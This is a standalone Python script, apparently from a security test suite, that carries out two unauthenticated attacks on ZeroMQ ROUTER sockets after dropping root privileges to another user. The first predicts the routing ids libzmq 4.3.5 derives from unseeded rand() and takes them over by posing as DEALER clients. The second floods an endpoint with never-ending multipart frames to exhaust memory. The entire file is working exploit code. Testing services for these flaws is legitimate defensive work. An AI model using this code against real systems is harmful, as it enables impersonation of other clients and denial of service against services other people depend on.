"""Both attacks on a ZeroMQ ROUTER that need no secret, as another user, with the standard library alone.

Root starts it, since the other user may not be able to read this Python; it becomes the other user once everything is
imported. Arguments: the user's number, which attack, and the endpoints to try. Prints a JSON map from each endpoint to
"attacked", or to why it could not be reached.
"""

import contextlib
import ctypes
import json
import os
import socket
import sys

SECONDS = 5.0
SOCKETS = 8
"""The ROUTER is one of the first so many sockets of its process."""
CHOSEN_IDS = 32
"""Of the routing ids that each of them would give next."""
FRAME = 1 << 20
FRAMES = 64
TRIES = 5
"""Attempts at an attack whose connection is reset before everything is sent, as about one in ten is."""
MORE, LONG = 1, 2


def main():
    user, name, *endpoints = sys.argv[1:]
    attack = {"routing_id": take_next_routing_id, "multipart": never_end_a_message}[name]
    os.setgroups([])
    os.setgid(int(user))
    os.setuid(int(user))
    outcomes = {}
    for endpoint in endpoints:
        try:
            attack(endpoint)
            outcomes[endpoint] = "attacked"
        except OSError as error:
            outcomes[endpoint] = type(error).__name__
    print(json.dumps(outcomes))


def take_next_routing_id(endpoint):
    """Choose the routing ids that the ROUTER would give to its next clients, then be its next client."""
    crowd = [connect(endpoint, b"")]
    with contextlib.suppress(OSError):  # it is over when the daemon hangs up
        for first in first_routing_ids():
            for number in range(CHOSEN_IDS):
                chosen = (first + number) % (1 << 32)
                crowd.append(connect(endpoint, b"\0" + chosen.to_bytes(4, "big")))
        crowd.append(connect(endpoint, b""))
        while crowd[-1].recv(4096):
            pass


def first_routing_ids():
    """Where ROUTERs begin to count: libzmq 4.3.5 takes two of the C library's random numbers, which it never seeds."""
    random = ctypes.CDLL(None).rand
    for _ in range(SOCKETS):
        low, high = random(), random()
        yield low | (high & 1) << 31


def never_end_a_message(endpoint):
    """Send frame after frame, each of them saying that more will follow."""
    frame = bytes([MORE | LONG]) + FRAME.to_bytes(8, "big") + bytes(FRAME)
    for _ in range(TRIES):
        connection, sent = connect(endpoint, b""), 0
        with contextlib.suppress(OSError):
            for _ in range(FRAMES):
                connection.sendall(frame)
                sent += 1
            while connection.recv(4096):
                pass
        if sent == FRAMES:
            return


def connect(endpoint, routing_id):
    """A connection that has said what a DEALER says first."""
    if endpoint.startswith("ipc://"):
        connection, address = socket.socket(socket.AF_UNIX), endpoint[len("ipc://") :]
    else:
        host, _, port = endpoint[len("tcp://") :].rpartition(":")
        connection, address = socket.socket(socket.AF_INET), (host, int(port))
    connection.settimeout(SECONDS)
    connection.connect(address)
    greeting = b"\xff" + bytes(8) + b"\x7f\x03\x00" + b"NULL".ljust(20, b"\0") + bytes(32)
    ready = b"\x05READY" + stated(b"Socket-Type", b"DEALER") + stated(b"Identity", routing_id)
    connection.sendall(greeting + b"\x04" + bytes([len(ready)]) + ready)
    connection.recv(len(greeting))
    return connection


def stated(name, value):
    return bytes([len(name)]) + name + len(value).to_bytes(4, "big") + value


main()
